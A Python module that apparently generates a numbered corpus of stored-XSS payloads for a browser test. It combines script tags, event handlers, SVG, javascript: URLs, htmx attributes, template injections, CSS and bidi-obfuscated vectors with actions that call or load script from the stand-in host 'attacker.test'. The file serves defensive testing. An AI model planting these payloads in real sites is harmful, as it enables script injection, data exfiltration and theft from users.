"""Stored-XSS payloads for the browser test, generated here (no list is downloaded).

Each payload carries its own number `n`, and when it runs it does something a test can see and trace back
to it: it calls `__xss(n)` (a function the test exposes to every frame), opens a dialog whose message holds
`n`, or sends a request to `attacker.test` with `n` in its address. A vector (where the script hides:
`<script>`, an event handler, SVG, a `javascript:` URL, an htmx attribute, a template, CSS, a frame, ...)
is combined with an action (what the script does, written plainly or encoded) and, for some, with what
breaks out of the place the text was put (`">`, `</textarea>`, ...) or hides it (bidirectional and
zero-width characters).

A few payloads are inert even in raw HTML (`inert`): text that is only dangerous if something decoded it
twice or normalised it (`&lt;script&gt;`, `<scr\u200bipt>`, template syntax for engines that are not
there). They are in the corpus to show that the pages keep them as they are.
"""

import base64
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass

ATTACKER = "attacker.test"


@dataclass(frozen=True)
class Payload:
    n: int
    family: str
    text: str
    shape: str  # the text with its number blanked out: payloads are distinct by shape, not only by number
    vector: str  # the template it was made from
    inert: bool = False


# --- actions: what a payload does when it runs ---------------------------------------------------
# Each is JavaScript with N for the payload's number. Their characters decide where they fit:
# "bare" ones fit an unquoted attribute value, "tick" ones use backquotes, the others need quotes.


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _codes(text: str) -> str:
    return ",".join(str(ord(ch)) for ch in text)


@dataclass(frozen=True)
class Action:
    name: str
    make: Callable[[str], str]  # the payload's number -> JavaScript

    def js(self, n: str) -> str:
        return self.make(n)

    @property
    def bare(self) -> bool:
        sample = self.js("7")
        return not any(ch in sample for ch in " \t\n\"'<>`")

    @property
    def unquoted(self) -> bool:  # fits an unquoted attribute value (backquotes are a parse error, but kept)
        sample = self.js("7")
        return not any(ch in sample for ch in " \t\n\"'<>")

    @property
    def single_quotable(self) -> bool:
        return "'" not in self.js("7")


ACTIONS = [
    Action("hit", lambda n: f"__xss({n})"),
    Action("alert", lambda n: f"alert({n})"),
    Action("confirm", lambda n: f"confirm({n})"),
    Action("prompt", lambda n: f"prompt({n})"),
    Action("top", lambda n: f"top.__xss({n})"),
    Action("parent", lambda n: f"parent.__xss({n})"),
    Action("atob-name", lambda n: f"self[atob(/X194c3M/.source)]({n})"),
    Action("fetch", lambda n: f"fetch(`//{ATTACKER}/{n}`)"),
    Action("beacon", lambda n: f"navigator.sendBeacon(`//{ATTACKER}/{n}`)"),
    Action("image", lambda n: f"void((new(Image)).src=`//{ATTACKER}/{n}.png`)"),
    Action("navigate", lambda n: f"location=`//{ATTACKER}/{n}`"),
    Action("import", lambda n: f"import(`//{ATTACKER}/{n}.js`)"),
    Action("eval-atob", lambda n: f"eval(atob(`{_b64(f'__xss({n})')}`))"),
    Action("timeout", lambda n: f"setTimeout(__xss,0,{n})"),
    Action("function", lambda n: f"Function(`__xss({n})`)()"),
    Action("map", lambda n: f"[{n}].map(__xss)"),
    Action("call", lambda n: f"__xss.call(null,{n})"),
    Action("unicode", lambda n: f"\\u005f\\u005fxss({n})"),
    Action("charcode", lambda n: f"eval(String.fromCharCode({_codes(f'__xss({n})')}))"),
    Action("throw", lambda n: f"onerror=alert;throw`{n}`"),
    Action("arrow", lambda n: f"(()=>__xss({n}))()"),
    Action("quoted", lambda n: f"window['__xss']({n})"),
    Action("spaced", lambda n: f"void __xss( {n} )"),
    Action("concat", lambda n: f"top['al'+'ert']({n})"),
]
BARE = [a for a in ACTIONS if a.bare]
UNQUOTED = [a for a in ACTIONS if a.unquoted]
SINGLE = [a for a in ACTIONS if a.single_quotable]
ANY = ACTIONS


def url_encoded(js: str) -> str:
    return urllib.parse.quote(js, safe="")


# --- vectors: where the script hides ------------------------------------------------------------
# (family, template, actions that fit it). {a} is the action, {n} the number, {u} the action URL-encoded.

ACTION_VECTORS = [
    # <script>
    ("script", "<script>{a}</script>", ANY),
    ("script", "<SCRIPT>{a}</SCRIPT>", ANY),
    ("script", "<ScRiPt >{a}</sCrIpT >", ANY),
    ("script", "<script type=module>{a}</script>", ANY),
    ("script", "</script><script>{a}</script>", ANY),
    ("script", "<script>\n{a}\n</script\n>", ANY),
    ("script", "<script>{a}//</script>", ANY),
    ("script", '<script src="data:text/javascript,{u}"></script>', BARE),
    ("script", "<svg><script>{a}</script></svg>", ANY),
    ("script", "<math><mtext><script>{a}</script></mtext></math>", ANY),
    # event handlers
    ("handler", "<img src=x onerror={a}>", UNQUOTED),
    ("handler", '<img src=x onerror="{a}">', ANY),
    ("handler", "<img src=x onerror='{a}'>", SINGLE),
    ("handler", "<IMG SRC=x ONERROR={a}>", UNQUOTED),
    ("handler", "<img/src/onerror={a}>", UNQUOTED),
    ("handler", "<img src=x\tonerror={a}>", UNQUOTED),
    ("handler", '<img src=x onerror\n=\n"{a}">', ANY),
    ("handler", "<image src=x onerror={a}>", UNQUOTED),
    ("handler", "<body onload={a}>", UNQUOTED),
    ("handler", '<body onpageshow="{a}">', ANY),
    ("handler", "<input autofocus onfocus={a}>", UNQUOTED),
    ("handler", '<select autofocus onfocus="{a}"></select>', ANY),
    ("handler", "<textarea autofocus onfocus={a}></textarea>", UNQUOTED),
    ("handler", "<details open ontoggle={a}>", UNQUOTED),
    ("handler", '<video src=x onerror="{a}"></video>', ANY),
    ("handler", "<audio src=x onerror={a}>", UNQUOTED),
    ("handler", "<video><source onerror={a}></video>", UNQUOTED),
    ("handler", '<iframe onload="{a}"></iframe>', ANY),
    ("handler", "<style onload={a}></style>", UNQUOTED),
    ("handler", '<link rel=stylesheet href=x onerror="{a}" onload="{a}">', ANY),
    ("handler", "<marquee onstart={a}>x</marquee>", UNQUOTED),
    ("handler", '<input type=image src=x onerror="{a}">', ANY),
    ("handler", "<object data=x onerror={a}></object>", UNQUOTED),
    ("handler", "<style>@keyframes rhx{{}}</style><b style=animation-name:rhx onanimationstart={a}>x</b>", UNQUOTED),
    ("handler", '<b onclick="{a}">click</b>', ANY),
    ("handler", '<p onmouseover="{a}">hover</p>', ANY),
    ("handler", "<picture><source srcset=x><img onerror={a}></picture>", UNQUOTED),
    ("handler", "<x contenteditable onfocus={a} autofocus>x</x>", UNQUOTED),
    # SVG and MathML
    ("svg", "<svg onload={a}>", UNQUOTED),
    ("svg", "<svg/onload={a}>", UNQUOTED),
    ("svg", '<svg onload="{a}"></svg>', ANY),
    ("svg", "<SVG ONLOAD={a}>", UNQUOTED),
    ("svg", "<svg\nonload={a}>", UNQUOTED),
    ("svg", "<svg><g><svg onload={a}></svg></g></svg>", UNQUOTED),
    ("svg", "<svg><animate onbegin={a} attributeName=x dur=1s>", UNQUOTED),
    ("svg", '<svg><set onbegin="{a}" attributeName=x to=1 />', ANY),
    ("svg", "<svg><discard onbegin={a} />", UNQUOTED),
    ("svg", '<svg><a xlink:href="javascript:{a}"><text y=20>x</text></a></svg>', ANY),
    ("svg", '<svg><a href="javascript:{a}"><rect width=20 height=20 /></a></svg>', ANY),
    ("svg", "<svg><foreignObject><img src=x onerror={a}></foreignObject></svg>", UNQUOTED),
    ("svg", '<svg><image href=x onerror="{a}" /></svg>', ANY),
    ("svg", "<svg><desc><img src=x onerror={a}></desc></svg>", UNQUOTED),
    ("svg", "<svg><title><svg onload={a}></title></svg>", UNQUOTED),
    ("svg", "<math><mtext><img src=x onerror={a}></mtext></math>", UNQUOTED),
    # javascript: URLs
    ("javascript-url", '<a href="javascript:{a}">x</a>', ANY),
    ("javascript-url", "<a href=javascript:{a}>x</a>", UNQUOTED),
    ("javascript-url", '<a href="JaVaScRiPt:{a}">x</a>', ANY),
    ("javascript-url", '<a href=" \tjavascript:{a}">x</a>', ANY),
    ("javascript-url", '<a href="java&#x09;script:{a}">x</a>', ANY),
    ("javascript-url", '<a href="javascript&colon;{a}">x</a>', ANY),
    ("javascript-url", '<a href="javascript:{u}">x</a>', ANY),
    ("javascript-url", '<a href="javascript://%0a{u}">x</a>', ANY),
    ("javascript-url", '<iframe src="javascript:{a}"></iframe>', ANY),
    ("javascript-url", "<iframe src=javascript:{a}></iframe>", UNQUOTED),
    ("javascript-url", '<form action="javascript:{a}"><input type=submit></form>', ANY),
    ("javascript-url", '<form><button formaction="javascript:{a}">x</button></form>', ANY),
    ("javascript-url", "<form><input type=submit formaction=javascript:{a}></form>", UNQUOTED),
    ("javascript-url", '<object data="javascript:{a}"></object>', ANY),
    ("javascript-url", '<embed src="javascript:{a}">', ANY),
    ("javascript-url", '<math href="javascript:{a}">x</math>', ANY),
    # htmx attributes (htmx 2 evaluates hx-on, js: values and trigger filters)
    ("htmx", '<div hx-on::before-request="{a}" hx-get="/" hx-trigger="load"></div>', ANY),
    ("htmx", '<div hx-on:htmx:config-request="{a}" hx-get="/" hx-trigger="load"></div>', ANY),
    ("htmx", '<div hx-on--before-request="{a}" hx-get="/" hx-trigger="load"></div>', ANY),
    ("htmx", '<div hx-on-htmx-before-send="{a}" hx-get="/" hx-trigger="load"></div>', ANY),
    ("htmx", '<div hx-on::load="{a}"></div>', ANY),
    ("htmx", '<b hx-on:click="{a}">click</b>', ANY),
    ("htmx", '<div data-hx-on:htmx:before-request="{a}" data-hx-get="/" data-hx-trigger="load"></div>', ANY),
    ("htmx", '<div hx-get="/" hx-trigger="load" hx-vals=\'js:{{x:{a}}}\'></div>', SINGLE),
    ("htmx", '<div hx-post="/" hx-trigger="load" hx-headers=\'js:{{x:{a}}}\'></div>', SINGLE),
    ("htmx", '<div hx-get="/" hx-trigger="load[{a}]"></div>', ANY),
    ("htmx", '<div HX-GET="/" HX-TRIGGER="load" HX-ON::BEFORE-REQUEST="{a}"></div>', ANY),
    # templates: declarative shadow DOM, and template syntax wrapped around a live tag
    ("template", "<template shadowrootmode=open><img src=x onerror={a}></template>", UNQUOTED),
    ("template", "<div><template shadowrootmode=closed><svg onload={a}></svg></template></div>", UNQUOTED),
    ("template", '<template shadowrootmode="open"><input autofocus onfocus="{a}"></template>', ANY),
    ("template", "<template><img src=x onerror={a}></template>", UNQUOTED),
    ("template", "{{{{ '<img src=x onerror={a}>' }}}}", UNQUOTED),
    ("template", '{{{{ "<svg onload={a}>"|safe }}}}', UNQUOTED),
    ("template", "{{% autoescape off %}}<script>{a}</script>{{% endautoescape %}}", ANY),
    ("template", "{{% verbatim %}}<img src=x onerror={a}>{{% endverbatim %}}", UNQUOTED),
    ("template", "{{{{7*7}}}}<svg/onload={a}>", UNQUOTED),
    ("template", "${{{a}}}<img src=x onerror={a}>", UNQUOTED),
    ("template", "<%= {a} %><svg onload={a}>", UNQUOTED),
    # CSS that runs script
    ("css", "<style>@keyframes rh{n}{{}}</style><p style=animation:rh{n} onanimationend={a}>x</p>", UNQUOTED),
    ("css", '<p style="width:expression({a})">x</p>', ANY),
    ("css", "<style>p{{width:expression({a})}}</style>", ANY),
    # frames
    ("srcdoc", '<iframe srcdoc="<script>{a}</script>"></iframe>', ANY),
    ("srcdoc", '<iframe srcdoc="&lt;script&gt;{a}&lt;/script&gt;"></iframe>', ANY),
    ("srcdoc", "<iframe srcdoc='<img src=x onerror={a}>'></iframe>", SINGLE),
    ("srcdoc", '<iframe srcdoc="<svg onload={a}>"></iframe>', ANY),
    ("srcdoc", '<iframe srcdoc="<a href=javascript:{a}>x</a>"></iframe>', UNQUOTED),
    ("srcdoc", '<iframe src="data:text/html,<script>{u}</script>"></iframe>', BARE),
    ("srcdoc", '<object data="data:text/html,<script>{u}</script>"></object>', BARE),
    # meta and base
    ("meta", '<meta http-equiv=refresh content="0;url=javascript:{a}">', SINGLE),
    ("base", '<base href="javascript:{a}//"><a href=x>x</a>', ANY),
    # hidden in plain sight: bidirectional and zero-width characters
    ("bidi", "\u202e<img src=x onerror={a}>\u202c", UNQUOTED),
    ("bidi", "\u2066<svg onload={a}>\u2069", UNQUOTED),
    ("bidi", "\u200b<script>{a}</script>\u200b", ANY),
    ("bidi", "<svg/onload={a}>\u200f\u200e", UNQUOTED),
    ("bidi", "\ufeff<img src=x onerror={a}>", UNQUOTED),
    ("bidi", "\u061c<details open ontoggle={a}>", UNQUOTED),
    ("bidi", "\u202dgnp.{n}xss\u202e<img src=x onerror={a}>", UNQUOTED),
    ("bidi", '<img src="x\u202e" onerror="{a}">', ANY),
    ("bidi", "<img src=x on\u200berror={a}>", UNQUOTED),
    ("bidi", '<a href="java\u200bscript:{a}">x</a>', ANY),
    ("bidi", "\u2028<svg onload={a}>\u2029", UNQUOTED),
    ("bidi", "\u200d\u2060<img src=x onerror={a}>\u2063", UNQUOTED),
    # other encodings and parser quirks
    ("encoded", "<!--><img src=x onerror={a}>-->", UNQUOTED),
    ("encoded", '<!--<img src="--><img src=x onerror={a}//">', UNQUOTED),
    ("encoded", "<![CDATA[><img src=x onerror={a}>]]>", UNQUOTED),
    ("encoded", "<?xml ?><svg onload={a}>", UNQUOTED),
    ("encoded", '<noscript><p title="</noscript><img src=x onerror={a}>"></noscript>', UNQUOTED),
    ("encoded", '<svg></p><style><a id="</style><img src=x onerror={a}>">', UNQUOTED),
    ("encoded", '<a href="&#x6A;avascript:{a}">x</a>', ANY),
    ("encoded", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{a}">x</a>', ANY),
    ("encoded", "&lt;script&gt;{a}&lt;/script&gt;", ANY),
    ("encoded", "&amp;lt;img src=x onerror={a}&amp;gt;", ANY),
    ("encoded", "%3Cscript%3E{u}%3C%2Fscript%3E", BARE),
    ("encoded", "\\u003cimg src=x onerror={a}\\u003e", UNQUOTED),
    ("encoded", "\\x3csvg onload={a}\\x3e", UNQUOTED),
    ("encoded", "+ADw-script+AD4-{a}+ADw-/script+AD4-", UNQUOTED),
    ("encoded", "<scr<script>ipt>{a}</scr</script>ipt>", ANY),
]

# Payloads whose script never runs, even in raw HTML: their danger is a second decoding or a framework.
INERT_TEMPLATES = {
    '<p style="width:expression({a})">x</p>',
    "<style>p{{width:expression({a})}}</style>",
    '<meta http-equiv=refresh content="0;url=javascript:{a}">',
    '<base href="javascript:{a}//"><a href=x>x</a>',
    "<img src=x on\u200berror={a}>",
    '<a href="java\u200bscript:{a}">x</a>',
    "&lt;script&gt;{a}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={a}&amp;gt;",
    "%3Cscript%3E{u}%3C%2Fscript%3E",
    "\\u003cimg src=x onerror={a}\\u003e",
    "\\x3csvg onload={a}\\x3e",
    "+ADw-script+AD4-{a}+ADw-/script+AD4-",
    '<object data="javascript:{a}"></object>',
    '<embed src="javascript:{a}">',
    '<math href="javascript:{a}">x</math>',
}

# Vectors that act without script: a request leaves for the attacker's host, or a dialog opens.
REQUEST_VECTORS = [
    ("css", "<style>@import '//{h}/{n}.css';</style>"),
    ("css", "<style>@import url(//{h}/{n}.css)</style>"),
    ("css", "<style>body{{background:url(//{h}/{n}.png)}}</style>"),
    ("css", '<style>*{{background-image:url("//{h}/{n}")}}</style>'),
    ("css", '<p style="background:url(//{h}/{n})">x</p>'),
    ("css", "<p style=background-image:url(//{h}/{n})>x</p>"),
    ("css", '<p style="background:url(&#x2f;&#x2f;{h}/{n})">x</p>'),
    ("css", '<p style="background:url(\\2f\\2f {h}/{n})">x</p>'),
    ("css", '<p style="behavior:url(//{h}/{n}.htc)">x</p>'),
    ("css", '<p style="-moz-binding:url(//{h}/{n}.xml#x)">x</p>'),
    ("css", "<link rel=stylesheet href=//{h}/{n}.css>"),
    ("css", "<style>@font-face{{font-family:rh{n};src:url(//{h}/{n}.woff)}}p{{font-family:rh{n}}}</style><p>x</p>"),
    ("css", "<style>li{{list-style:url(//{h}/{n}.png)}}</style><li>x</li>"),
    ("css", '<svg><style>@import "//{h}/{n}.css"</style></svg>'),
    ("css", '<p style="--x:url(//{h}/{n});background:var(--x)">x</p>'),
    ("css", "<table background=//{h}/{n}.png><td>x</td></table>"),
    ("resource", "<img src=//{h}/{n}.png>"),
    ("resource", '<img srcset="//{h}/{n}.png 1x">'),
    ("resource", "<video poster=//{h}/{n}.png></video>"),
    ("resource", "<input type=image src=//{h}/{n}.png>"),
    ("resource", "<iframe src=//{h}/{n}></iframe>"),
    ("resource", "<object data=//{h}/{n}></object>"),
    ("resource", "<embed src=//{h}/{n}>"),
    ("resource", "<audio src=//{h}/{n}.mp3 autoplay></audio>"),
    ("resource", "<script src=//{h}/{n}.js></script>"),
    ("resource", "<link rel=prefetch href=//{h}/{n}>"),
    ("resource", "<link rel=preload as=image href=//{h}/{n}.png>"),
    ("resource", "<svg><image href=//{h}/{n}.png /></svg>"),
    ("resource", "<body background=//{h}/{n}.png>"),
    ("resource", '<a href="//{h}/{n}">x</a>'),
    ("resource", '<a ping="//{h}/{n}" href="#">x</a>'),
    ("resource", "<form action=//{h}/{n}><button>x</button></form>"),
    ("resource", '<meta name=referrer content=unsafe-url><img src="//{h}/{n}.png">'),
    ("meta", '<meta http-equiv=refresh content="0;url=//{h}/{n}">'),
    ("meta", '<meta http-equiv="refresh" content="0; URL=\'//{h}/{n}\'">'),
    ("meta", "<META HTTP-EQUIV=REFRESH CONTENT=0;URL=//{h}/{n}>"),
    ("meta", '<meta http-equiv=refresh content="1; url=//{h}/{n}">'),
    ("base", "<base href=//{h}/{n}/><img src=x.png>"),
    ("base", '<base href="//{h}/{n}/"><script src=x.js></script>'),
    ("base", "<base href=//{h}/{n}/><link rel=stylesheet href=x.css>"),
    ("base", "<base target=_blank><a href=//{h}/{n}>x</a>"),
    ("htmx", '<div hx-get="//{h}/{n}" hx-trigger="load"></div>'),
    ("htmx", '<form hx-post="//{h}/{n}" hx-trigger="load" hx-include="body"></form>'),
    ("htmx", '<div data-hx-get="//{h}/{n}" data-hx-trigger="load"></div>'),
    ("htmx", '<div hx-get="/" hx-trigger="load" hx-confirm="{n}"></div>'),
    ("htmx", '<div hx-get="/" hx-trigger="load" hx-prompt="{n}"></div>'),
    ("htmx", '<div hx-post="/approve-selected/" hx-vals=\'{{"calls": "{n}"}}\' hx-trigger="load"></div>'),
    ("htmx", '<div hx-boost="true"><a href="//{h}/{n}">x</a></div>'),
    ("htmx", '<div id="queue-count" hx-swap-oob="true" hx-get="//{h}/{n}" hx-trigger="load"></div>'),
    ("htmx", '<img src=x hx-get="//{h}/{n}" hx-trigger="error">'),
    ("template", '<template shadowrootmode="open"><style>@import "//{h}/{n}.css"</style></template>'),
    ("template", "{{{{ request.user.password }}}}{{% debug %}}<img src=//{h}/{n}.png>"),
    ("template", "{{{{constructor.constructor('__xss({n})')()}}}}<img src=//{h}/{n}.png>"),
    ("template", "[[${{__xss({n})}}]]<img src=//{h}/{n}.png>"),
    ("template", "<div v-html=\"'<img src=x onerror=__xss({n})>'\"><img src=//{h}/{n}.png></div>"),
    ("srcdoc", "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=//{h}/{n}'>\"></iframe>"),
    ("srcdoc", "<iframe srcdoc='<img src=//{h}/{n}.png>'></iframe>"),
    ("bidi", "\u202e<img src=//{h}/{n}.png>\u202c"),
    ("bidi", "\u200b<link rel=stylesheet href=//{h}/{n}.css>"),
]

# What breaks out of the place a value was put: an attribute, a text area, a title, a comment, a script...
BREAKERS = [
    '">',
    "'>",
    '"/>',
    "`>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</pre>",
    "</blockquote>",
    "</option></select>",
    "</xmp>",
    "</iframe>",
    "</noembed>",
    "</noframes>",
    "</svg>",
    "</math>",
    "*/",
    '"></a>',
    "'\"></div>",
    "\"}}'>",
    "</dd></dl>",
    "</code></td></tr></table>",
    "</h2>",
    "</label>",
    "</p>",
]
BREAKER_VECTORS = [
    ("<img src=x onerror={a}>", UNQUOTED),
    ("<svg onload={a}>", UNQUOTED),
    ("<script>{a}</script>", ANY),
]
# Attribute injections: harmless as text, live when a value lands inside an attribute or a URL.
ATTRIBUTE_INJECTIONS = [
    ('" autofocus onfocus="{a}" x="', ANY),
    ("' autofocus onfocus='{a}' x='", SINGLE),
    ('" onmouseover="{a}', ANY),
    ("x onerror={a} ", UNQUOTED),
    ('" onanimationstart="{a}" style="animation:rhx', ANY),
    ('" hx-get="/" hx-trigger="load" hx-vals=\'js:{{x:{a}}}\' x="', SINGLE),
    ('" hx-on::before-request="{a}" hx-get="/" hx-trigger="load" x="', ANY),
    ("javascript:{a}", UNQUOTED),
    (" javascript:{a}", ANY),
]

ACTIONS_PER_VECTOR = 9  # of the actions that fit a vector, this many (in turn), to spread the families
ACTIONS_PER_INERT_VECTOR = 3


def _fill(template: str, action: Action | None, n: str) -> str:
    js = action.js(n) if action else ""
    return template.format(a=js, n=n, u=url_encoded(js), h=ATTACKER)


def generate() -> list[Payload]:
    """The corpus: every payload distinct even with its number blanked, numbered from 1."""
    recipes: list[tuple[str, str, Action | None, bool]] = []
    for family, template, fitting in ACTION_VECTORS:
        inert = template in INERT_TEMPLATES
        for action in _spread(fitting, template, ACTIONS_PER_INERT_VECTOR if inert else ACTIONS_PER_VECTOR):
            recipes.append((family, template, action, inert))
    for family, template in REQUEST_VECTORS:
        recipes.append((family, template, None, False))
    for i, breaker in enumerate(BREAKERS):
        for j, (vector, fitting) in enumerate(BREAKER_VECTORS):
            for action in (fitting[(i + j) % len(fitting)], fitting[(i + j + 7) % len(fitting)]):
                recipes.append(("breakout", breaker + vector, action, False))
    for template, fitting in ATTRIBUTE_INJECTIONS:
        for action in _spread(fitting, template, ACTIONS_PER_VECTOR):
            recipes.append(("attribute", template, action, False))
    payloads, shapes = [], set()
    for family, template, action, inert in recipes:
        shape = _fill(template, action, "N")
        if shape in shapes:
            continue
        shapes.add(shape)
        n = len(payloads) + 1
        payloads.append(Payload(n, family, _fill(template, action, str(n)), shape, template, inert))
    return payloads


def _spread(fitting: list[Action], template: str, count: int) -> list[Action]:
    """`count` of the fitting actions, starting at a different one for each vector."""
    start = sum(map(ord, template)) % len(fitting)
    count = min(count, len(fitting))
    return [fitting[(start + k) % len(fitting)] for k in range(count)]


PAYLOADS = generate()
